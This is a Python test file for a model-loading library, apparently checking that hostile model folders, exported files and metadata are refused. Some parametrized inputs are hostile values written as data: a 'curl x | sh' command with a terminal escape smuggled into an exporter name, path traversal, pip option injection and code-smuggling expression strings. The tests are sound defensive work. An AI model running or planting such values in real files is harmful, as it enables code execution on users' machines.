"""Model folders, exported files and settings made to harm are refused with one error each."""

import hashlib
import shutil
import threading
import time

import numpy as np
import pytest

import allkit
from allkit.errors import CheckpointError, ExportError, PluginError
from allkit.plugins import registry
from allkit.records import Reference
from allkit.runtime.graph import TooMuch
from allkit.runtime.onnx import OnnxPredictor
from allkit.runtime.opening import load
from allkit.runtime.seal import exporter_in, read_sealed
from allkit.runtime.trailer import parts_of, with_trailer
from attacks import hostile_models


def test_what_was_made_to_harm_is_refused(tmp_path):
    for counts in hostile_models.run("short", tmp_path).values():
        counts.require_none_failed()


@pytest.mark.nightly
def test_and_so_are_programs_and_openvino_files(tmp_path):
    for counts in hostile_models.run("long", tmp_path).values():
        counts.require_none_failed()


def test_what_is_not_the_model_is_named(tmp_path):
    model = hostile_models.new_model(tmp_path)
    (model / "model.safetensors").write_text(
        f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 145\n"
    )
    with pytest.raises(CheckpointError, match="git lfs pull"):
        allkit.Classifier.load(model)
    (model / "model.safetensors").write_text("<!DOCTYPE html><html>Please sign in</html>")
    with pytest.raises(CheckpointError, match="web page"):
        allkit.Classifier.load(model)
    with pytest.raises(CheckpointError, match=r"the folder above one. Give .*model"):
        allkit.Classifier.load(tmp_path)


def test_pictures_and_further_files_are_told(tmp_path):
    model = hostile_models.new_model(tmp_path)
    allkit.Classifier.load(model)
    (model / "plots" / "confusion.png").write_bytes(b"another picture")
    with pytest.warns(UserWarning, match=r"The picture .*confusion.png was changed"):
        allkit.Classifier.load(model)
    hostile_models.seal_folder(model)
    (model / "run_me.py").touch()
    with pytest.warns(UserWarning, match="1 files or folders that allkit did not write"):
        allkit.Classifier.load(model)


def test_a_link_within_a_model_is_not_followed(tmp_path):
    model = hostile_models.new_model(tmp_path)
    shutil.move(model / "model.safetensors", tmp_path / "secret")
    (model / "model.safetensors").symlink_to(tmp_path / "secret")
    with pytest.raises(CheckpointError, match="is a link, which is not followed"):
        allkit.Classifier.load(model)


def test_the_sizes_that_torch_writes_for_bags_of_cells_are_known():
    from allkit.builtin.program import _refuse_string

    side = "ToFloat(Symbol('s69', positive=True, integer=True))"
    for text in (side, f"Mul(Float('0.85999999999999999', precision=53), {side})"):
        _refuse_string("expr_str", text)
    _refuse_string("guards_code", "L['shares'].size()[1] == L['pixels'].size()[0]")
    for key, text in (
        ("expr_str", "Float(open('x'))"),
        ("expr_str", "Integer(9)**Integer(99)"),
        ("guards_code", "L['shares'].__class__ == 1"),
        ("guards_code", "9 ** 9 ** 9 == 1"),
        ("guards_code", "L['a'].size()[0] == 1 or exit()"),
    ):
        with pytest.raises(ValueError, match="which allkit does not write"):
            _refuse_string(key, text)


class Slow:
    """A session that begins when its time is over."""

    def __init__(self, session):
        self.session = session

    def run(self, names, feed, options):
        while not options.terminate:
            time.sleep(0.001)
        return self.session.run(names, feed, options)


def test_a_graph_that_takes_too_long_is_ended(tmp_path, monkeypatch):
    path = shutil.copy(hostile_models.SAVED / "model.onnx", tmp_path / "model.onnx")
    model = OnnxPredictor(path)
    timer = threading.Timer
    monkeypatch.setattr(threading, "Timer", lambda _, *what: timer(0, *what))
    monkeypatch.setattr(model, "_session", Slow(model._session))
    field = np.full((64, 64, 3), 200, np.uint8)
    with pytest.raises(ExportError, match=r"for one image it asks for more than \d+ seconds"):
        model.outputs([field] * 2)


def test_images_that_take_too_much_together_are_answered_one_by_one(tmp_path, monkeypatch):
    path = shutil.copy(hostile_models.SAVED / "model.onnx", tmp_path / "model.onnx")
    model = OnnxPredictor(path)
    compute, fields = model.compute, [np.full((64, 64, 3), value, np.uint8) for value in (90, 200)]
    wanted = model.outputs(fields).logits

    def small(feed, names):
        if len(feed["pixels"]) > 1:
            raise TooMuch("4.0 GiB of memory")
        return compute(feed, names)

    monkeypatch.setattr(model, "compute", small)
    np.testing.assert_allclose(model.outputs(fields).logits, wanted, atol=1e-5)


# ── what a file names is printed, and said to be installed ────────────────────────────────────

NO_NAMES = [
    "\x1b[2Jevil; curl x | sh/openvino",
    "-rhttps/x",
    "../../x/openvino",
    "a b/c",
    "A" * 10**6,
    f"{'a' * 101}/b",
    ["evil/x"],
]


@pytest.mark.parametrize("name", NO_NAMES)
def test_an_exporter_that_is_no_name_is_neither_shown_nor_recommended(name, tmp_path):
    path = tmp_path / "m.fake"
    path.write_bytes(with_trailer(b"x" * 50, {"exporter": name, "format": 3}))
    with pytest.raises(allkit.AllkitError) as caught:
        load(path)
    message = str(caught.value)
    assert "pip install" not in message
    assert message.isprintable()
    assert len(message) < 1000
    assert exporter_in(path.read_bytes()) == ""
    assert exporter_in(f'{{"exporter": "{name}"}}'.encode()) == ""


def test_a_package_that_is_no_name_is_not_recommended(tiny_folder, tmp_path):
    from test_training import resealed

    def damaged(distribution, version):
        def change(info):
            info["backbone"] |= {"name": "net", "distribution": distribution, "version": version}

        folder = tmp_path / "m"
        shutil.rmtree(folder, ignore_errors=True)
        return resealed(shutil.copytree(tiny_folder, folder), change)

    with pytest.raises(CheckpointError, match=r"'\.\./\.\./x', which is no name of a package"):
        allkit.Classifier.load(damaged("../../x", "1.0"))
    with pytest.raises(PluginError, match=r"plugin nopkg 1 -r x, which .*: install nopkg\."):
        allkit.Classifier.load(damaged("nopkg", "1 -r x"))


def test_a_member_of_a_family_with_a_slash_names_no_package():
    assert Reference.of("timm:hf-hub:owner/model").package == ""
    assert Reference.of("allkit/timm:hf-hub:owner/model").package == "allkit"
    with pytest.raises(PluginError) as caught:
        registry().get("backbone", "timm:hf-hub:owner/model")
    assert "pip install" not in str(caught.value)


def test_no_trailer_vouches_for_a_file_with_a_seal_of_its_own(tiny_onnx, tmp_path):
    info = {"exporter": "allkit/onnx"}
    for data in (tiny_onnx.read_bytes(), b"anything"):
        path = tmp_path / "m.onnx"
        path.write_bytes(with_trailer(data, info))
        with pytest.raises(
            ExportError, match="trailer behind it, which files of its format have not"
        ):
            read_sealed(path)
        with pytest.raises(ExportError, match="trailer behind it"):
            load(path)


def test_a_second_trailer_is_refused(tmp_path):
    once = with_trailer(b"payload", {})
    with pytest.raises(ExportError, match="ends in a trailer of allkit already"):
        with_trailer(once, {})
    # As another program would write it: the hash is right.
    text = b"{}"
    end = once[-8:]
    length = len(text).to_bytes(8, "little")
    whole = hashlib.sha256(once + text + length + end).digest()
    with pytest.raises(ExportError, match="ends in a trailer of allkit already"):
        parts_of(once + text + whole + length + end, "a.fake")
